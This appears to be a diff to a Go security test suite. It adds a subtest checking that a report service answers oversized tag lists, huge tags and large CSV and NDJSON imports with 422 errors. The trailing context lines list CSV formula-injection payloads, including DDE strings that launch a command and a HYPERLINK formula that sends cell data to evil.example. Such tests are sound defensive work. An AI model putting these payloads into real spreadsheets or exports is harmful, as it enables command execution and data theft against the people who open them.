@@ -279,6 +279,64 @@ func TestAbuse(t *testing.T) {
 	responsive(t, base)
 	t.Logf("service RSS %d MiB after the hostile requests", rssBytes(t, pid)>>20)
 
+	t.Run("report limits", func(t *testing.T) {
+		// One report with 40,000 tags held the write lock for 20 s; a tag
+		// over 32 KiB was a 500 ("key too large"); an import row with
+		// 30,000 tags took 9 s and a 1.9 MB text became a 120 MB record.
+		// Each is now refused on its own with a 422, and the service
+		// answers at once.
+		many := make([]string, 40_000)
+		for i := range many {
+			many[i] = fmt.Sprint("tag-", i)
+		}
+		problem := func(what string, code int, b []byte, field string) {
+			t.Helper()
+			var p struct {
+				Status int    `json:"status"`
+				Field  string `json:"field"`
+			}
+			if err := json.Unmarshal(b, &p); code != 422 || err != nil || p.Status != 422 || p.Field != field {
+				t.Errorf("%s: %d %.300s, want a 422 problem on %q", what, code, b, field)
+			}
+		}
+		body, _ := json.Marshal(map[string]any{"title": "x", "text": "Aleppo", "tags": many})
+		code, b := abuseDo(t, "POST", base+"/api/v1/reports", bytes.NewReader(body), w...)
+		problem("40,000 tags", code, b, "tags")
+		body, _ = json.Marshal(map[string]any{"title": "x", "text": "Aleppo", "tags": []string{strings.Repeat("t", 40<<10)}})
+		code, b = abuseDo(t, "POST", base+"/api/v1/reports", bytes.NewReader(body), w...)
+		problem("a 40 KiB tag", code, b, "tags")
+		code, b = abuseDo(t, "PATCH", base+"/api/v1/reports/x", bytes.NewReader(body), w...)
+		if code != 404 && code != 422 {
+			t.Errorf("PATCH of a missing report with a 40 KiB tag: %d %.200s", code, b)
+		}
+
+		csvBody := "title,text,tags\nok,Aleppo,a\nbig,Idlib," + strings.Join(many[:30_000], ";") + "\n"
+		code, b = abuseDo(t, "POST", base+"/api/v1/import", strings.NewReader(csvBody), auth, "Content-Type: text/csv")
+		var res struct {
+			Created int `json:"created"`
+			Items   []struct {
+				Status  int `json:"status"`
+				Problem *struct {
+					Field string `json:"field"`
+				} `json:"problem"`
+			} `json:"items"`
+		}
+		if err := json.Unmarshal(b, &res); code != 200 || err != nil || res.Created != 1 || len(res.Items) != 2 || res.Items[1].Status != 422 {
+			t.Errorf("CSV import with a row of 30,000 tags: %d %.300s", code, b)
+		}
+		text, _ := json.Marshal(map[string]any{"title": "big", "text": strings.Repeat("Aleppo and Idlib. ", 110_000)})
+		code, b = abuseDo(t, "POST", base+"/api/v1/import", bytes.NewReader(append(text, '\n')), auth, "Content-Type: application/x-ndjson")
+		res.Items = nil
+		if err := json.Unmarshal(b, &res); code != 200 || err != nil || len(res.Items) != 1 || res.Items[0].Status != 422 || res.Items[0].Problem.Field != "text" {
+			t.Errorf("import of a 1.9 MB text: %d %.300s", code, b)
+		}
+		code, b = abuseDo(t, "GET", base+"/api/v1/tags?tag=a", nil)
+		if code != 200 {
+			t.Errorf("tag listing: %d %.200s", code, b)
+		}
+		responsive(t, base)
+	})
+
 	t.Run("CSV injection", func(t *testing.T) {
 		payloads := []string{"=cmd|' /C calc'!A0", "+SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
 			"\t=1+1", "\r=1+1", `=HYPERLINK("http://evil.example/?leak="&A1,"click")`}
